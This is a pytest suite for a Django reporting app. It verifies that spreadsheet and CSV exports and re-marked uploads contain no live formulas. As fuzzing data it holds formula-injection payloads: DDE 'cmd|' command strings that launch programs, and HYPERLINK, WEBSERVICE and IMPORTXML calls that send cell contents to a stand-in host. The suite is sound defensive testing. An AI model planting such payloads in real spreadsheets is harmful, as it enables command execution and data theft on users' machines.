"""Thousands of cells that try to be formulas, through every export: none is live when it is read back."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from django.urls import reverse

from common.sheets import SheetColumn, write_table
from common.text import neutralise
from orgs.models import Unit
from orgs.permissions import Role
from reports.models import EnteredValue, Indicator, ReportForm, ReportFormLine
from reports.rendering.blocks import Column, Table
from reports.rendering.xlsx import render_csv, render_xlsx
from spreadsheets.services.formulas import is_sum
from spreadsheets.services.marking import mark_xlsx
from tests import factories
from tests.reports.rendering import sample
from tests.spreadsheets import workbooks
from tests.test_sweep import ALL, ROWS, a_period
from tests.typed import with_texts

STARTS = [
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "\u00a0=", "\u200b=", "\ufeff=", "\u202e=", "\u2028=",
    "＝", "＋", "－",
    "＠", "﹦", "﹢", "﹣", "﹫", "==", "=-", "+-", "@=", "\x00=", "\x0b=", "\x1f+", "%=", "'=", '"=', ";=", ",=",
]  # fmt: skip
TAILS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://a.example/?"&A1,"Bấm")',
    'WEBSERVICE("http://a.example")',
    "SUM(1+9)*cmd|' /C notepad'!A0",
    'IMPORTXML("http://a.example","//a")',
    "2023",
    "A1",
]
EVIL = ["".join(pair) for pair in itertools.product(STARTS, TAILS)]
FIRST = set("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫")
CONTROLS = [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x21), 0x7F]
INVISIBLE = "".join(map(chr, CONTROLS)) + "\u00a0\u200b\u202e\u2028\ufeff"


def live(value: Any) -> bool:
    """Whether a spreadsheet program would take a text for a formula when it reads it from a plain file."""
    return isinstance(value, str) and value.lstrip(INVISIBLE)[:1] in FIRST and value != ""


def cells_of(data: bytes) -> Iterator[Any]:
    """Every filled cell of a workbook."""
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


def assert_dead(data: bytes) -> int:
    """No cell is a formula or would become one; gives the number of cells that tried."""
    tried = 0
    for cell in cells_of(data):
        assert cell.data_type != "f", cell.value
        assert not live(cell.value), cell.value
        tried += isinstance(cell.value, str) and any(tail in cell.value for tail in TAILS)
    return tried


def test_a_thousand_cells_of_every_start_and_tail():
    rows = [[text, f"{text} tiếp", number] for number, text in enumerate(EVIL * 2, -200)]
    data = write_table(
        "=1+1", [SheetColumn("=A1"), SheetColumn("@x"), SheetColumn("+1")], rows, totals=["-1", "=2", 3]
    )
    cells = list(cells_of(data))
    assert [cell.data_type for cell in cells].count("f") == 0
    assert not [cell.value for cell in cells if live(cell.value)]
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert numbers[:-1] == list(range(-200, len(EVIL) * 2 - 200))  # negative numbers stay numbers
    print(f"\n{len(rows) * 2} cells fuzzed")  # noqa: T201 - the figure of the run
    assert len(rows) * 2 >= 1000


def test_the_same_cells_as_csv():
    out = io.StringIO()
    csv.writer(out).writerows([[neutralise(text)] for text in EVIL])
    read = [row[0] for row in csv.reader(io.StringIO(out.getvalue(), newline="")) if row]
    assert len(read) == len(EVIL)
    assert not [text for text in read if live(text)]


ONE_ROW = {
    "reports:review", "campaigns:title",
    *(f"democracy_regs:{kind}" for kind in ("mediation", "petition", "reception")),
}  # fmt: skip
"""Kinds of which the factory makes the same row again."""
KINDS = sorted(
    {name.removesuffix("_export") for name in (address.name for address in ALL) if name.endswith("_export")}
    - {"reports:compare", "reports:period", "orgs:user_data"}
)


@pytest.mark.django_db
def test_every_list_goes_out_without_a_live_cell(client, cast):
    texts, tried = itertools.cycle(EVIL), 0
    client.force_login(factories.make_user(Role.ADMINISTRATOR, cast.province))
    for name in KINDS:
        make = ROWS[max((start for start in ROWS if name.startswith(start)), key=len)]
        for _ in range(1 if name in ONE_ROW else 8):
            with_texts(make(cast), texts)
        answer = client.get(reverse(f"{name}_export"))
        assert answer.status_code == 200
        tried += assert_dead(answer.content)
    print(f"\n{tried} hostile cells in {len(KINDS)} exports of lists")  # noqa: T201 - the figure of the run
    assert tried >= 100


@pytest.mark.django_db
def test_what_is_held_about_a_person_goes_out_without_a_live_cell(client, cast):
    person = factories.make_user(
        Role.UNIT_OFFICER, cast.a1, full_name="=HYPERLINK(1)", position="@SUM(A1)", email="a@a.example"
    )
    client.force_login(cast.quan)
    answer = client.get(reverse("orgs:user_data_export", args=[person.pk]))
    assert answer.status_code == 200
    assert_dead(answer.content)


@pytest.mark.django_db
def test_the_table_of_a_period_goes_out_without_a_live_cell(client, cast):
    client.force_login(factories.make_user(Role.ADMINISTRATOR, cast.province))
    period, indicator = a_period(cast), factories.make_indicator("LOI")
    ReportFormLine.objects.create(form=period.form, indicator=indicator, position=10)
    days = {"starts_on": period.starts_on, "ends_on": period.ends_on}
    value = factories.make_entered(cast.a1, indicator, words="nhiều", **days)
    texts, tried = itertools.cycle(text.replace("\x00", "") for text in EVIL), 0
    for _ in range(len(EVIL) // 4):
        EnteredValue.objects.filter(pk=value.pk).update(words=next(texts)[:120])
        Indicator.objects.filter(pk=indicator.pk).update(name=next(texts))
        ReportForm.objects.filter(pk=period.form_id).update(name=next(texts))
        Unit.objects.filter(pk=cast.a1.pk).update(name=next(texts))
        answer = client.get(reverse("reports:period_export", args=[period.pk]))
        assert answer.status_code == 200
        tried += assert_dead(answer.content)
    assert tried >= len(EVIL) // 2


@pytest.mark.django_db
def test_an_empty_list_of_accounts_has_no_live_cell(client, cast):
    client.force_login(cast.quan)
    assert_dead(client.get(reverse("spreadsheets:account_template")).content)


@pytest.mark.django_db
def test_a_template_filled_with_records_has_no_live_text(client, cast):
    for number, text in enumerate(EVIL[::9]):
        factories.make_meeting(cast.a1, content=f"{text} {number}".replace("\x00", ""))
    client.force_login(cast.alice)
    asked = {"mau-kind": "meetings", "mau-unit": cast.a.pk, "mau-period": "năm 2023", "mau-filled": "on"}
    answer = client.get(reverse("spreadsheets:template"), asked)
    assert answer["Content-Disposition"].startswith("attachment")
    cells = list(cells_of(answer.content))
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    risky = [cell for cell in cells if live(cell.value)]
    assert all(cell.quotePrefix for cell in risky)  # shown as typed, and marked as text for every program


def test_a_report_as_workbook_and_as_csv():
    table = Table(
        "=cmd", (Column("=1"), Column("@x")), tuple((text, f"{text}.") for text in EVIL if text.isprintable())
    )
    document = sample.review(2, blocks=(table,))
    assert_dead(render_xlsx(document))
    rows = list(csv.reader(io.StringIO(render_csv(document).decode("utf-8-sig"), newline=""), delimiter=";"))
    texts = [text for row in rows for text in row]
    assert not [text for text in texts if live(text) and not text.lstrip("-").replace(".", "").isdigit()]


# --- the marked reply: the sender's own file comes back to other people too ---

BEYOND = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example","x")',
    '=WEBSERVICE("http://a.example")',
    "=[other.xlsx]Sheet1!A1",
    "='file:///C:/[a.xls]S'!A1",
    '=INDIRECT("A"&1)',
    "=CALL(1)",
    "=_xlfn.IMAGE(A1)",
    "=SUM(HYPERLINK(A1))",
    '=IF(A1="x",1,2)&"y"',
    "=A1#",
    "=@A1",
    "={1;2}",
]
SUMS = ["=SUM(B2:B9)", "=B2+B3", "=Sheet1!B2*2", "=ROUND(AVERAGE(B2:B3),1)", "=IF(B2>3,1,0)", "=-(B2-B3)/2"]


@pytest.mark.parametrize("formula", SUMS)
def test_a_sum_of_the_senders_cells_stays(formula):
    assert is_sum(formula)


@pytest.mark.parametrize("formula", BEYOND)
def test_whatever_reaches_out_of_the_file_becomes_a_value(formula):
    assert not is_sum(formula)
    marked = mark_xlsx(workbooks.xlsx([["Xã", "Số"], ["a", formula], ["b", "=SUM(B1:B1)"]]), {})
    assert [cell.value for cell in cells_of(marked) if cell.data_type == "f"] == ["=SUM(B1:B1)"]


def test_a_stored_text_of_such_a_formula_is_dead_too():
    data = workbooks.raw_xlsx('<row r="1"><c r="A1" t="str"><f>CALL(1)</f><v>=cmd|x</v></c></row>')
    marked = mark_xlsx(data, {})
    assert [(cell.data_type, cell.value) for cell in cells_of(marked)] == [("s", "'=cmd|x")]
